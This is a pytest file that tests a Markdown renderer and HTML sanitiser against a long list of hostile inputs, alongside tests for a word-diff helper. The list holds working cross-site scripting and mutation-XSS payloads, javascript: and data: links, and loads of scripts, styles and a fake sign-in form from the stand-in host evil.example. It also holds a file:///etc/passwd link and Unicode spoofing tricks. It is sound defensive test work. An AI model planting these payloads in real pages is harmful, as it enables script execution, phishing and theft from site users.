"""Text from outside: what may appear of it on a page, and what must not."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from projects import rendering
from projects.rendering import ATTRIBUTES, LINK_REL, TAGS, clean, render_markdown, show_unseen, word_diff

HOSTILE = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)//",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>x</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script\x00>alert(1)</script>",
    # event handlers and elements that load or run
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='x()'>a</div>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><maction xlink:href='javascript:x()'>a",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import'//evil.example'</style>",
    "<p style=background:url(//evil.example)>a</p>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<template><script>alert(1)</script></template>",
    # mutation XSS
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # links
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<java script:alert(1)>)",
    "[a](vbscript:x)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/p/acme/members/)",
    "[a](#id)",
    "[a](blob:https://a/b)",
    "[a](https:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    '[b]\n\n[b]: https://evil.example "t" onclick',
    '[a](https://evil.example "x\\" onmouseover=\\"alert(1)")',
    "[a](https://evil.example/'onclick='alert(1))",
    '[a](https://evil.example/"onclick="alert(1))',
    "[**bold** `code`](https://evil.example)",
    "[](https://evil.example)",
    "[https://bank.example](https://evil.example)",
    "[a](https://[::1)",
    "[a](mailto:a@b.example?body=<script>)",
    # images
    "![a](https://evil.example/pixel.png)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![a](https://evil.example/p.png)](https://evil.example)",
    '![<script>](https://evil.example/"onerror="x)',
    "![a][b]\n\n[b]: //evil",
    # htmx, DOM clobbering, attributes
    "<div hx-get=/p/acme/ hx-trigger=load>a</div>",
    "<div data-hx-post=/logout hx-trigger=load></div>",
    "<div hx-on:load=alert(1)>",
    "<div id=toast hx-swap-oob=true>owned</div>",
    "<p hx-swap-oob='innerHTML:#main'>x</p>",
    "<form name=body><input name=parentNode></form>",
    "<a id=submit name=submit>x</a>",
    "<p class=toast data-key=p>x</p>",
    "<a href=https://evil.example target=_top>x</a>",
    "<td id=x align=left onclick=x>",
    "# x {#id .class onclick=alert(1)}",
    # structure
    "| a | b |\n|:-|-:|\n| <img src=x onerror=alert(1)> | [x](javascript:x) |",
    "1234567890. list\n",
    "0. zero\n1. one",
    "- " * 200 + "x",
    "> " * 90 + "x",
    "> " * 200 + "<img src=x onerror=alert(1)>",
    "[" * 5000,
    "![" * 5000,
    "*" * 5000,
    "`" * 4999 + "<b>",
    "~~<del onclick=x>~~",
    "line\u2028<script>",
    "a\u202egnp.exe\u202c",
    "pass\u200bword",
    "\U000e0041\U000e0042",
]


class Reader(HTMLParser):
    """Lists what a browser would make of a text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.tags.append("!comment")


def assert_harmless(html: str) -> None:
    page = Reader(html)
    assert set(page.tags) <= TAGS
    for tag, name, value in page.attributes:
        assert name in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        if name == "href":
            assert value.lower().startswith(("https://", "http://", "mailto:"))
        if name == "rel":
            assert value == LINK_REL
    assert clean(html) == html


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_leaves_nothing_outside_the_allow_list(text: str) -> None:
    assert_harmless(render_markdown(text))
    assert_harmless(render_markdown(f"> {text}\n\n- {text}\n\n**{text}**"))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_the_sanitiser_alone_holds_too(text: str) -> None:
    assert_harmless(clean(text))


@given(st.text(alphabet="<>/\"'=&#;:()[]!*_`~|\\-\n\t \u202eahjoprxs"))
def test_no_text_at_all_gets_through(text: str) -> None:
    assert_harmless(render_markdown(text))


def test_markup_people_use_is_kept() -> None:
    html = render_markdown(
        "# Fees\n\nThe **fee** is *due* ~~never~~ `now`:\n\n1. one\n2. two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"
    )
    for piece in (
        "<h3>Fees</h3>", "<strong>fee</strong>", "<em>due</em>", "<del>never</del>", "<code>now</code>", "<li>one</li>",
        '<td align="right">2</td>',
    ):  # fmt: skip
        assert piece in html


def test_a_line_break_stays_one() -> None:
    assert "one<br>\ntwo" in render_markdown("one\ntwo")


def test_a_link_names_its_host() -> None:
    html = render_markdown("[our bank](https://evil.example/login)")
    assert f'<a href="https://evil.example/login" rel="{LINK_REL}">our bank</a> (evil.example)' in html


def test_a_link_that_shows_another_address_names_its_host_too() -> None:
    assert "</a> (evil.example)" in render_markdown("[https://bank.example](https://evil.example)")


def test_an_address_written_out_needs_no_host() -> None:
    html = render_markdown("<https://help.example/fees>")
    assert html.count("help.example") == 2
    assert "</a></p>" in html


def test_an_image_is_told_not_loaded() -> None:
    assert "[image: chart — https://evil.example/p.png]" in render_markdown("![chart](https://evil.example/p.png)")


def test_nothing_of_a_text_is_hidden() -> None:
    html = render_markdown("before <!-- secret --> after\n\n[x]: https://a.example 'definition'")
    assert "secret" in html
    assert "definition" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u202eb", "a[U+202E]b"),
        ("a\u2066b", "a[U+2066]b"),
        ("pass\u200bword", "pass[U+200B]word"),
        ("pass\u200dword", "pass[U+200D]word"),
        ("\U000e0041", "[U+E0041]"),
        ("\x1b[31m", "[U+001B][31m"),
        ("👩\u200d👧 و می\u200cخواهم", "👩\u200d👧 و می\u200cخواهم"),
        ("tab\tand\nline", "tab\tand\nline"),
    ],
)
def test_what_cannot_be_seen_is_written_out(text: str, shown: str) -> None:
    assert show_unseen(text) == shown


def test_entities_do_not_smuggle_what_cannot_be_seen() -> None:
    assert "[U+202E]" in render_markdown("a&#x202E;b")


@pytest.mark.parametrize("text", ["<b>x</b>" * 20_000, "> " * 101 + "<b>", "> " * 2000 + "<b>", "[" * 101 + "<b>"])
def test_too_long_or_too_deep_is_shown_as_it_is(text: str) -> None:
    html = render_markdown(text)
    assert html.startswith("<pre>")
    assert "&lt;b&gt;" in html
    assert "<b>" not in html


def test_ninety_levels_still_render() -> None:
    assert render_markdown("> " * 90 + "deep").count("<blockquote>") == 90


def test_a_text_that_breaks_the_parser_is_still_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(text: str) -> str:
        raise RecursionError

    monkeypatch.setattr(rendering, "_markdown_to_html", broken)
    assert render_markdown("<b>never seen before</b>") == "<pre>&lt;b&gt;never seen before&lt;/b&gt;</pre>"


@pytest.mark.parametrize("piece", ["[", "![", "*a_ ", "``a", "&a;", "<a ", "> ", "~~a ", "[a]("])
def test_no_text_takes_long(piece: str) -> None:
    text = (piece * rendering.MAX_CHARACTERS)[: rendering.MAX_CHARACTERS]
    before = time.process_time()
    render_markdown(text)
    assert time.process_time() - before < 4


def test_only_this_module_marks_text_as_safe() -> None:
    root = Path(__file__).resolve().parents[2]
    apps = ("projects", "feedback", "annotations", "evals", "monitoring", "reviewhub")
    sources = [path for app in apps for path in (root / app).rglob("*.py") if "migrations" not in path.parts]
    assert [path.name for path in sources if "mark_safe(" in path.read_text()] == ["rendering.py"]


class TestWordDiff:
    def test_equal_texts_have_no_changes(self) -> None:
        assert word_diff("one two", "one  two") == ([("same", "one two")], 0, 0)

    def test_empty_texts(self) -> None:
        assert word_diff("", "") == ([], 0, 0)
        assert word_diff("", "new words") == ([("added", "new words")], 0, 2)
        assert word_diff("old", "") == ([("removed", "old")], 1, 0)

    def test_a_changed_word_between_long_runs(self) -> None:
        parts, removed, added = word_diff("the fee is ten euros a month", "the fee is four euros a month")
        assert parts == [
            ("same", "the fee is"), ("removed", "ten"), ("added", "four"), ("same", "euros a month"),
        ]  # fmt: skip
        assert (removed, added) == (1, 1)

    def test_one_or_two_equal_words_between_changes_are_folded_in(self) -> None:
        parts = word_diff("x y z a b c", "x y z 1 b 3").parts
        assert parts == [("same", "x y z"), ("removed", "a b c"), ("added", "1 b 3")]

    def test_a_long_unchanged_run_shrinks_to_its_ends(self) -> None:
        words = [f"w{n}" for n in range(12)]
        parts = word_diff(" ".join(words), " ".join([*words, "new"])).parts
        assert parts == [("same", "w0 w1 … w9 w10 w11"), ("added", "new")]

    def test_very_long_texts_are_compared_as_a_whole(self) -> None:
        parts, removed, added = word_diff("a " * 3000, "b " * 3000)
        assert [part.kind for part in parts] == ["removed", "added"]
        assert (removed, added) == (3000, 3000)
